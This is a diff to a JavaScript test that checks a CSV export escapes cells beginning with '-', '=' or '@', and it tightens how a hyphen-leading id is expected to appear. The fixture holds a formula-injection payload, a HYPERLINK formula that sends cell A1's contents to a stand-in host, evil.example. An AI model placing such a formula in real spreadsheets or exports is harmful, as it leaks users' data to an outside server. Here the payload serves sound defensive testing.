@@ -73,11 +73,11 @@ for (const database of databases) {
       const header =
         'id,jti,rule_name,policy_version,document_sha256,locale,document_source,state,requested_at,decided_at,engine_status,attempts,portal_version,client_address'
       const firstLine = `${first?.id},'-abcdefghijklmnopqrstu,"'=HYPERLINK(""https://evil.example/?""&A1;""x"")",2026-11-20,${first?.document_sha256},de,shown,accepted,2026-11-20T12:00:00.000Z,2026-11-20T12:00:00.003Z,302,2,2026.47.0-IR,192.0.2.7`
-      const secondLine = `${second?.id},${second?.jti},"two\nlines, ""quoted""",2026-11-20,${second?.document_sha256},de,shown,pending,2026-11-20T12:00:00.004Z,,,1,2026.47.0-IR,`
-      assert.deepEqual(new Set(header.split(',')), new Set(Object.keys(first ?? {})))
       // A random id may start with a hyphen.
-      assert.equal(csv?.stdout.replace("'-", '-'), `${header}\r\n${firstLine}\r\n${secondLine}\r\n`.replace("'-", '-'))
-      assert.match(csv?.stdout ?? '', /,'-abcdefghijklmnopqrstu,/)
+      const jti = `${second?.jti}`.replace(/^-/, "'-")
+      const secondLine = `${second?.id},${jti},"two\nlines, ""quoted""",2026-11-20,${second?.document_sha256},de,shown,pending,2026-11-20T12:00:00.004Z,,,1,2026.47.0-IR,`
+      assert.deepEqual(new Set(header.split(',')), new Set(Object.keys(first ?? {})))
+      assert.equal(csv?.stdout, `${header}\r\n${firstLine}\r\n${secondLine}\r\n`)
       const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(',').replace('@', "'@"))
       assert.equal(
         csvWithAttempts?.stdout.replaceAll("'-", '-'),
